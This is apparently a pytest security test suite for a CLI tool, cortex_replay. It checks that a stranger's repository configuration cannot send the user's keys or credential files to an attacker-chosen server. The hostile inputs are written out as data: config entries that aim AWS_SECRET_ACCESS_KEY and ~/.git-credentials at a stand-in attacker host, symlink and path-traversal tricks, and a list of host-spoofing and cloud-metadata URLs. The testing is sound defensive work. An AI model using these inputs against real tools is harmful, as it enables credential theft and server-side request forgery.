"""No key goes anywhere it does not belong: a repository names servers and keys, and gets nothing.

The judge is a server that keeps every byte it is sent. It is reached under names of strangers: it is the
proxy of the child process, and plain HTTP goes to a proxy whole.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from unittest.mock import patch

import pytest
from click.testing import CliRunner, Result

from cortex_replay.cli.main import main
from cortex_replay.config import key_for, load_settings, token_for
from cortex_replay.config.keys import known_secrets
from cortex_replay.config.servers import server_of
from cortex_replay.config.trust import CLIENT, Consent, needed_consent
from cortex_replay.errors import ConfigError
from cortex_replay.run import Run
from cortex_replay.run.adapters import adapter_for
from tests.sampling import sample

SECRET = "wJalr" + "XUtnFEMI" + "K7MDENG9bPxRfiCY" + "0KEY"
EVIL = "http://llm.attacker.example"
_CHUNK = {
    "id": "x",
    "object": "chat.completion.chunk",
    "created": 1,
    "model": "m",
    "choices": [{"index": 0, "delta": {"role": "assistant", "content": "hi"}, "finish_reason": "stop"}],
}
ANSWER = b"data: " + json.dumps(_CHUNK).encode() + b"\n\ndata: [DONE]\n\n"


class Sink:
    """Keeps all that it gets, and answers as a model does."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self.received = b""
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=[connection], daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(2)
            data = b""
            try:
                while b"\r\n\r\n" not in data:
                    more = connection.recv(65536)
                    if not more:
                        return
                    data += more
                    self.received += more
                head = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n"
                connection.sendall(head + b"content-length: %d\r\n\r\n" % len(ANSWER) + ANSWER)
                while more := connection.recv(65536):
                    self.received += more
            except OSError:
                return

    def close(self) -> None:
        self._listener.close()


@pytest.fixture
def sink() -> Iterator[Sink]:
    made = Sink()
    yield made
    made.close()


class Clone:
    """A stranger's repository, and the user who has cloned it."""

    def __init__(self, tmp_path: Path, sink: Sink) -> None:
        self.home = tmp_path / "home"
        self.root = tmp_path / "clone"
        (self.root / ".git").mkdir(parents=True)
        self.home.mkdir()
        self._tool = [sys.executable, "-m", "cortex_replay"]
        proxy = f"http://127.0.0.1:{sink.port}"
        self.environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(self.home),
            "PYTHONPATH": str(Path(__file__).parents[2]),
            "AWS_SECRET_ACCESS_KEY": SECRET,
            "HTTP_PROXY": proxy,
            "http_proxy": proxy,
        }

    def says(self, text: str) -> None:
        (self.root / "cortex-replay.toml").write_text(text)

    def run(self, *words: str, **environment: str) -> Result:
        """A command, in this process, which then has no other environment than the user's."""
        with patch.dict(os.environ, self.environment | environment, clear=True), contextlib.chdir(self.root):
            return CliRunner().invoke(main, words)

    def run_process(self, *words: str) -> str:
        """A command in a process of its own, and all that it says."""
        result = subprocess.run(
            [*self._tool, *words],
            cwd=self.root,
            env=self.environment,
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
        return result.stdout + result.stderr

    def record(self, **environment: str) -> Result:
        return self.run("record", "--model", "m", "--prompt", "Hi", **environment)


@pytest.fixture
def clone(tmp_path: Path, sink: Sink) -> Clone:
    return Clone(tmp_path, sink)


def provider(kind: str, base_url: str, key: str, name: str = "p") -> str:
    return f'provider = "{name}"\n[providers.{name}]\nkind = "{kind}"\nbase_url = "{base_url}"\n{key}\n'


KEYS = {
    "variable": 'key_env = "AWS_SECRET_ACCESS_KEY"',
    "second variable": 'key_env = ["NOT_SET", "AWS_SECRET_ACCESS_KEY"]',
    "file at home": 'key_file = "~/.git-credentials"',
    "file above": 'key_file = "../home/.git-credentials"',
    "file through a link": 'key_file = "linked/.git-credentials"',
    "link": 'key_file = "credentials"',
}


@pytest.mark.parametrize("key", KEYS)
def test_a_repository_gets_no_key(clone: Clone, sink: Sink, key: str) -> None:
    """Whichever way its configuration names one."""
    credentials = clone.home / ".git-credentials"
    credentials.write_text(SECRET + "\n")
    credentials.chmod(0o600)
    (clone.root / "linked").symlink_to(clone.home)
    (clone.root / "credentials").symlink_to(credentials)
    clone.says(provider("openai-compat", f"{EVIL}/v1", KEYS[key]))
    result = clone.record()

    assert SECRET.encode() not in sink.received
    assert sink.received == b""
    assert result.exit_code == 2, result.stderr
    assert SECRET not in result.stdout + result.stderr


@pytest.mark.parametrize("kind", ["claude", "openai-compat", "openai-responses"])
def test_no_kind_of_provider_gets_one(clone: Clone, sink: Sink, kind: str) -> None:
    """And the message says what was refused and how to allow it."""
    clone.says(provider(kind, EVIL, 'key_env = "AWS_SECRET_ACCESS_KEY"'))
    result = clone.record()

    assert sink.received == b""
    assert f"cortex-replay trust {EVIL} AWS_SECRET_ACCESS_KEY" in result.stderr


def test_the_server_of_a_built_in_provider_is_changed(clone: Clone, sink: Sink) -> None:
    """Its own variable is not for another server, nor for its own host without TLS."""
    for url in (EVIL, "http://api.openai.com/v1"):
        clone.says(f'provider = "openai"\n[providers.openai]\nbase_url = "{url}"\nkey_env = "OPENAI_API_KEY"')
        clone.record(OPENAI_API_KEY=SECRET)

    assert sink.received == b""


_RECORD = ("record",)
_FORK = ("replay", "--from", "0", "--live")


def gateway(clone: Clone, *headers: dict[str, str], words: tuple[str, ...] = _RECORD) -> list[str]:
    """What clients behind the gateway are told, each with a header of its own."""
    code = f"""
import os, urllib.request as u, urllib.error as e
url = os.environ['CORTEX_REPLAY_GATEWAY'].rstrip('/') + '/openai/v1/chat/completions'
for i, header in enumerate({headers!r}):
    body = b'{{"model": "m", "stream": true, "messages": [{{"role": "user", "content": "%d"}}]}}' % i
    request = u.Request(url, data=body, headers={{'content-type': 'application/json', **header}})
    try:
        answer = u.build_opener(u.ProxyHandler({{}})).open(request)
    except e.HTTPError as error:
        answer = error
    print(answer.read().decode().replace(chr(10), ' '))
"""
    return clone.run_process(*words, "--", sys.executable, "-c", code).splitlines()[: len(headers)]


@pytest.mark.parametrize("words", sample([_RECORD, _FORK], 1))
def test_the_gateway_injects_no_key(clone: Clone, sink: Sink, words: tuple[str, ...]) -> None:
    """For a client that has none; nor where a replay goes on live."""
    clone.says(f'[providers.openai]\nbase_url = "{EVIL}"\nkey_env = "AWS_SECRET_ACCESS_KEY"')
    said = " ".join(gateway(clone, {}, words=words))

    assert sink.received == b""
    assert f"cortex-replay trust {EVIL} AWS_SECRET_ACCESS_KEY" in said


@pytest.mark.parametrize("words", sample([_RECORD, (*_FORK, "--no-key")], 1))
def test_the_gateway_passes_on_no_key_of_a_client(clone: Clone, sink: Sink, words: tuple[str, ...]) -> None:
    """Who thinks that it speaks to its provider. One without a key may ask any server, as ever."""
    clone.says(f'[providers.openai]\nbase_url = "{EVIL}"')
    names = ["authorization", "x-api-key", "x-auth-token", "api-key", "x-goog-api-key"]
    headers = [*({name: SECRET} for name in names), {"idempotency-key": "abc"}]
    *refused, answered = gateway(clone, *headers, words=words)

    assert SECRET.encode() not in sink.received
    assert sink.received.count(b"POST ") == 1
    assert all(f"cortex-replay trust {EVIL} client" in said for said in refused)
    assert "hi" in answered


def test_consent_is_given_remembered_and_taken_back(clone: Clone, sink: Sink) -> None:
    """For one server and one key, in a file of the user's own."""
    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))
    asked = clone.run("trust", "--json")
    given = clone.run("trust", EVIL, "AWS_SECRET_ACCESS_KEY")
    file = clone.home / ".config/cortex-replay/trust.toml"
    result = clone.record()

    assert (asked.exit_code, json.loads(asked.stdout)["asked"][0]["allowed"]) == (4, False)
    assert given.exit_code == 0, given.stderr
    assert file.stat().st_mode & 0o777 == 0o600
    assert result.exit_code == 0, result.stderr
    assert SECRET.encode() in sink.received
    assert clone.run("trust").exit_code == 0
    assert SECRET not in file.read_text()

    sink.received = b""
    assert clone.record(CI="true").exit_code == 2  # nothing that is remembered counts there
    assert clone.run("trust", "--list").stdout == f"{EVIL}  AWS_SECRET_ACCESS_KEY\n"
    assert clone.run("trust", "--remove", EVIL).exit_code == 0
    assert clone.run("record", "--model", "m", "--prompt", "Again").exit_code == 2
    assert sink.received == b""


@pytest.mark.parametrize(
    "consent",
    [
        "https://llm.attacker.example=AWS_SECRET_ACCESS_KEY",
        f"{EVIL}:81=AWS_SECRET_ACCESS_KEY",
        f"{EVIL}=OTHER",
    ],
)
def test_consent_for_something_else(clone: Clone, sink: Sink, consent: str) -> None:
    """Another scheme, another port, another key."""
    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))

    assert clone.record(CORTEX_REPLAY_TRUST=consent).exit_code == 2
    assert sink.received == b""


def test_consent_for_one_run(clone: Clone, sink: Sink) -> None:
    """By a variable or a flag: also in CI."""
    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))
    consent = f"{EVIL}=AWS_SECRET_ACCESS_KEY"
    by_variable = clone.record(CORTEX_REPLAY_TRUST=consent, CI="1")
    by_flag = clone.run("--trust", consent, "record", "--model", "m", "--prompt", "2", CI="1")

    assert (by_variable.exit_code, by_flag.exit_code) == (0, 0), by_flag.stderr
    assert sink.received.count(SECRET.encode()) == 2


@pytest.mark.parametrize("spoil", ["mode", "link", "damage"])
def test_a_trust_file_that_is_not_the_users_own(clone: Clone, sink: Sink, spoil: str) -> None:
    """Is refused, and nothing is sent."""
    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))
    clone.run("trust", "--all")
    file = clone.home / ".config/cortex-replay/trust.toml"
    if spoil == "mode":
        file.chmod(0o666)
    elif spoil == "link":
        file.rename(clone.root / "trust.toml")
        file.symlink_to(clone.root / "trust.toml")
    else:
        file.write_text("trust = 1")

    assert clone.record().exit_code == 2
    assert sink.received == b""


def test_replay_asks_for_no_consent(clone: Clone, sink: Sink) -> None:
    """What is recorded is given, whatever the configuration says of keys."""
    keys = 'key_env = "AWS_SECRET_ACCESS_KEY"\nkey_file = "~/x"'
    clone.says(provider("openai-compat", f"{EVIL}/v1", keys))
    clone.run("--trust", f"{EVIL}=AWS_SECRET_ACCESS_KEY", "record", "--model", "m", "--prompt", "Hi")
    sink.received = b""
    code = (
        "import asyncio; from cortex_replay import *\n"
        "request = LlmRequest('m', messages='Hi', max_tokens=1024)\n"
        "print(asyncio.run(ReplayAdapter(Store.open('.')).complete(request)).text)"
    )

    assert "hi\n" in clone.run_process("replay", "--", sys.executable, "-c", code)
    assert clone.run("verify").exit_code == 0
    assert clone.run("config").exit_code == 0
    assert sink.received == b""


def test_the_user_may_say_what_a_project_may_not(clone: Clone, sink: Sink) -> None:
    """In a configuration of their own; a project cannot turn its key to another server."""
    key = clone.home / "key"
    key.write_text(SECRET)
    key.chmod(0o600)
    own = clone.home / ".config/cortex-replay/config.toml"
    own.parent.mkdir(parents=True)
    own.write_text(provider("openai-compat", "http://llm.corp.example/v1", 'key_file = "~/key"', "corp"))
    allowed = clone.record()

    assert allowed.exit_code == 0, allowed.stderr
    assert SECRET.encode() in sink.received

    sink.received = b""
    clone.says(f'[providers.corp]\nbase_url = "{EVIL}"')
    assert clone.run("record", "--model", "m", "--prompt", "2").exit_code == 2
    clone.says('[providers.corp]\nkey_env = "AWS_SECRET_ACCESS_KEY"')
    assert clone.run("record", "--model", "m", "--prompt", "3").exit_code == 2
    assert sink.received == b""


def test_a_flag_is_the_users_own_choice(clone: Clone, sink: Sink) -> None:
    """Of a server; a key that the project names still needs consent."""
    clone.says(provider("openai-compat", EVIL, ""))
    url = "http://other.example/v1"

    assert clone.run("record", "--model", "m", "--prompt", "1", "--base-url", url).exit_code == 0
    clone.says(provider("openai-compat", EVIL, 'key_env = "AWS_SECRET_ACCESS_KEY"'))
    assert clone.run("record", "--model", "m", "--prompt", "2", "--base-url", url).exit_code == 2
    assert SECRET.encode() not in sink.received


CONFUSING = [
    "https://api.openai.com@evil.example",
    "https://api.openai.com.evil.example/v1",
    "https://api.openai.com./v1",
    "https://evil.example/api.openai.com",
    "https://api.openai.com:8443/v1",
    "http://api.openai.com/v1",
    "http://api.openai.com:443/v1",
    "https://api.opena\u0131.com/v1",
    "https://\uff41pi.openai.com/v1",
    "https://api%2eopenai.com/v1",
    "https://api.openai.com\\@evil.example",
    "http://127.0.0.1.nip.io",
    "http://0x7f.1",
    "http://2130706433",
    "http://127.1",
    "http://0177.0.0.1",
    "http://0.0.0.0",
    "http://[::]",
    "http://[::ffff:1.2.3.4]",
    "http://[::ffff:127.0.0.1]",
    "http://localhost.evil.example",
    "http://localhost.",
    "http://evil.localhost",
    "http://127.0.0.1@evil.example",
    "http://[::1].evil.example",
    "http://169.254.169.254",
]


@pytest.mark.parametrize("url", CONFUSING)
def test_a_server_that_looks_like_another(tmp_path: Path, url: str) -> None:
    """Is neither the provider's own nor this machine."""
    (tmp_path / "cortex-replay.toml").write_text(
        f'[providers.openai]\nbase_url = {json.dumps(url)}\nkey_env = "OPENAI_API_KEY"'
    )
    with pytest.raises(ConfigError):
        key_for(load_settings(tmp_path, {}).settings.providers["openai"], {"OPENAI_API_KEY": SECRET})


@pytest.mark.parametrize(
    ("url", "same"),
    [
        ("HTTPS://API.OpenAI.com/v1", "https://api.openai.com"),
        ("https://api.openai.com:443", "https://api.openai.com"),
        ("http://LOCALHOST:80/", "http://localhost"),
        ("http://[0:0:0:0:0:0:0:1]:8000/v1", "http://[::1]:8000"),
        ("http://127.8.9.1:1/", "http://127.8.9.1:1"),
    ],
)
def test_spellings_of_one_server(url: str, same: str) -> None:
    """Case, the default port and zeros make no difference."""
    assert str(server_of(url)) == same


def test_what_needs_no_consent(tmp_path: Path) -> None:
    """The provider's own server with its own variable, and this machine."""
    own = 'base_url = "https://api.openai.com/v1"\nkey_env = '
    for url_and_key, needed in [
        (own + '"OPENAI_API_KEY"', None),
        (own + '"AWS_SECRET_ACCESS_KEY"', Consent("https://api.openai.com", "AWS_SECRET_ACCESS_KEY")),
        ('base_url = "http://127.0.0.1:8000"\nkey_env = "VLLM_KEY"', None),
        ('base_url = "http://[::1]:8000"\nkey_env = "VLLM_KEY"', None),
        ('base_url = "https://x.example"\nkey_env = "VLLM_KEY"', Consent("https://x.example", "VLLM_KEY")),
    ]:
        (tmp_path / "cortex-replay.toml").write_text(f"[providers.openai]\n{url_and_key}")
        one = load_settings(tmp_path, {}).settings.providers["openai"]
        assert needed_consent(one, one.key_env[0], "key_env") == needed, url_and_key


def test_files_of_a_project_stay_inside(tmp_path: Path) -> None:
    """Tokens and scripts as keys, and what is refused is not read either."""
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    root = tmp_path / "clone"
    root.mkdir()
    (root / "cortex-replay.toml").write_text(
        f'[providers.a]\nkind = "openai-compat"\nkey_file = "{secret}"\n'
        '[callers.c]\ntoken_file = "../secret"\n'
    )

    assert SECRET not in known_secrets(load_settings(root, {}).settings, {})


@pytest.mark.parametrize(
    "host", ["0x7f.1", "2130706433", "127.1", "0177.0.0.1", "[::ffff:127.0.0.1]", "a%2e"]
)
def test_an_address_that_could_be_read_in_two_ways_is_no_server(host: str) -> None:
    """So nobody can be talked into trusting it either."""
    assert server_of(f"http://{host}") is None


@pytest.mark.parametrize(
    "path", ["~/secret", "../home/secret", "linked/secret", "link", "linked/../home/secret", "{home}/secret"]
)
def test_no_path_of_a_project_leads_out(clone: Clone, path: str) -> None:
    """Not even for a server on this machine, which needs no consent; nor to a token or a script."""
    secret = clone.home / "secret"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    (clone.root / "linked").symlink_to(clone.home)
    (clone.root / "link").symlink_to(secret)
    named = path.replace("{home}", str(clone.home))
    clone.says(
        f'[providers.p]\nkind = "openai-compat"\nbase_url = "http://127.0.0.1:1"\nkey_file = "{named}"\n'
        f'[providers.scripted]\nscript = "{named}"\n[callers.c]\ntoken_file = "{named}"\n'
    )
    settings = load_settings(clone.root, clone.environment).settings
    for use in (
        lambda: key_for(settings.providers["p"], {}),
        lambda: token_for(settings.callers["c"], {}),
        lambda: adapter_for(settings, "scripted"),
    ):
        with pytest.raises(ConfigError, match=r"outside of this project|symbolic link"):
            use()
    assert SECRET not in known_secrets(settings, {})


@pytest.mark.parametrize("store", ["..", "../other", "/elsewhere", "~/other", "a/../../other"])
def test_a_store_stays_in_its_repository(clone: Clone, store: str) -> None:
    """Commands write and remove there; only the user names one elsewhere."""
    clone.says(f'store = "{store}"')
    with pytest.raises(ConfigError, match="outside of this project"):
        load_settings(clone.root, clone.environment)
    clone.says("")
    loaded = load_settings(clone.root, clone.environment, {"store": clone.home})
    assert loaded.settings.store == clone.home


def test_a_part_of_a_repository_may_share_its_store(clone: Clone) -> None:
    """Above its own folder."""
    part = clone.root / "part"
    part.mkdir()
    (part / "cortex-replay.toml").write_text('store = "../shared"')

    assert load_settings(part, clone.environment).settings.store == part / "../shared"


def test_when_the_users_own_file_counts(clone: Clone) -> None:
    """Not in CI, and not if others can write it; and it cannot say what projects say."""
    own = clone.home / ".config/cortex-replay/config.toml"
    own.parent.mkdir(parents=True)
    own.write_text('model = "mine"')
    here = clone.environment

    assert load_settings(clone.root, here).settings.model == "mine"
    assert load_settings(clone.root, here | {"CI": "true"}).settings.model is None
    own.chmod(0o666)
    with pytest.raises(ConfigError, match="others could have written it"):
        load_settings(clone.root, here)
    own.chmod(0o600)
    for said in ("store = 'x'", "mode = 'live'", "normalisers.a = 'a'", "redaction.redact_key = []"):
        own.write_text(said)
        with pytest.raises(ConfigError, match="is for a project to say"):
            load_settings(clone.root, here)


def test_a_server_on_the_command_line_is_the_users(tmp_path: Path) -> None:
    """For the RPC, too: what the project said of the server is forgotten, what it said of the key is not."""
    (tmp_path / "cortex-replay.toml").write_text(
        f'[providers.openai]\nbase_url = "{EVIL}"\nkey_env = "X_KEY"'
    )
    run = Run(load_settings(tmp_path, {}).settings, servers={"openai": "http://mine.example"})
    changed = run.settings.providers["openai"]

    assert needed_consent(changed, CLIENT, None) is None
    assert needed_consent(changed, "X_KEY", "key_env") == Consent("http://mine.example", "X_KEY")
